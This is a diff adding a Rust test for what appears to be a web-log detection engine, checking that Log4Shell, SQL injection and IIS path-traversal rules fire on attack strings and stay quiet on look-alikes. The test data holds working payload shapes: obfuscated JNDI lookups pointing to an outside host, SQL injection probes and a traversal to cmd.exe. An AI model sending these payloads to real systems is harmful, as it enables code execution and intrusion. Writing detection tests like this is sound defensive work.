@@ -266,6 +266,47 @@ mod tests {
         assert!(names.is_empty(), "bundled rules without a test: {names:?}");
     }
 
+    /// Shapes attacks take in real logs, each with the look-alike that must
+    /// stay quiet: a lookup nested to hide `jndi`, SQL injection with `+`
+    /// for its spaces and the MSSQL version probe, the IIS Unicode
+    /// traversal in the path.
+    #[test]
+    fn attack_shapes_seen_in_real_logs_fire_and_their_look_alikes_do_not() {
+        let e = engine();
+        let agent = |ua| web(WebRow { stem: Some("/index.aspx"), user_agent: Some(ua), ..WebRow::default() });
+        let cases: Vec<(&str, View, View)> = vec![
+            (
+                "web_log4shell.yml",
+                agent("${j${::-n}di:ldap://x.example/a}"),
+                agent("Mozilla/5.0+(X11;+Linux)"),
+            ),
+            (
+                "web_log4shell.yml",
+                get("/", Some("q=${j${lower:n}di:dns://x.example/a}")),
+                get("/", Some("q=lower+upper+case")),
+            ),
+            (
+                "web_sql_injection.yml",
+                get("/item.aspx", Some("id=1'+AND+1=1--")),
+                get("/s", Some("q=rock+and+roll")),
+            ),
+            (
+                "web_sql_injection.yml",
+                get("/item.aspx", Some("id=1'+or+1=@@version--")),
+                get("/s", Some("q=version+history")),
+            ),
+            (
+                "web_path_traversal.yml",
+                get("/scripts/..%c1%1c../winnt/system32/cmd.exe", Some("/c+dir")),
+                get("/scripts/jquery.min.js", None),
+            ),
+        ];
+        for (rule, fires, quiet) in &cases {
+            assert!(fired(&e, fires).iter().any(|f| f == rule), "{rule} must fire");
+            assert!(!fired(&e, quiet).iter().any(|f| f == rule), "{rule} must not fire on its look-alike");
+        }
+    }
+
     /// A record's (field, value) pairs.
     type Fields = Vec<(String, String)>;
 
